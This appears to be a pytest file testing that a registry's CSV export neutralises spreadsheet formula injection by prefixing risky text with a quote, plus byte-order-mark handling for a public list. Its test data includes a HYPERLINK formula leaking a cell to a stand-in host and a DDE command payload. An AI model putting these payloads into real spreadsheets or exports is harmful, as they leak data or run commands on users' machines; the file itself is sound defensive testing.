"""Every CSV the registry serves opens safely in a spreadsheet: text from a member that
begins like a formula is written with a leading ``'``; the registry's own numbers stay
numbers."""

import csv
import io
from decimal import Decimal

import pytest

from api.csv_export import spreadsheet_safe

# OWASP's triggers: = + - @, and tab and carriage return, which some spreadsheets skip
# before looking for the others.
FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def cells(response, column):
    assert response.status_code == 200, response.get_data(as_text=True)
    assert response.mimetype == "text/csv"
    rows = csv.DictReader(io.StringIO(response.get_data(as_text=True), newline=""))
    return [row[column] for row in rows]


@pytest.mark.parametrize("text", FORMULAS)
def test_text_that_starts_like_a_formula_is_written_as_text(text):
    assert spreadsheet_safe(text) == "'" + text


@pytest.mark.parametrize("text", ["北京华信科技有限公司", "A=B", "a-b", "", " =1"])
def test_other_text_is_written_as_it_is(text):
    assert spreadsheet_safe(text) == text


@pytest.mark.parametrize("number", [-1, -0.25, Decimal("-12.50"), 0, 0.93])
def test_numbers_the_registry_formats_stay_numbers_even_negative(number):
    assert spreadsheet_safe(number) == number


@pytest.mark.parametrize(
    ("path", "headers", "marked"),
    [
        ("/api/v1/public/lists/blacklist.csv?bom=1", {}, True),
        ("/api/v1/public/lists/blacklist.csv", {"Accept": "text/csv;bom=1"}, True),
        ("/api/v1/public/lists/blacklist.csv", {}, False),
    ],
)
def test_the_public_list_csv_offers_a_byte_order_mark_for_excel(client, path, headers, marked):
    response = client.get(path, headers=headers)
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.get_data().startswith(b"\xef\xbb\xbf") is marked
    assert response.get_data().decode("utf-8-sig").startswith("id,list,subject_name,")
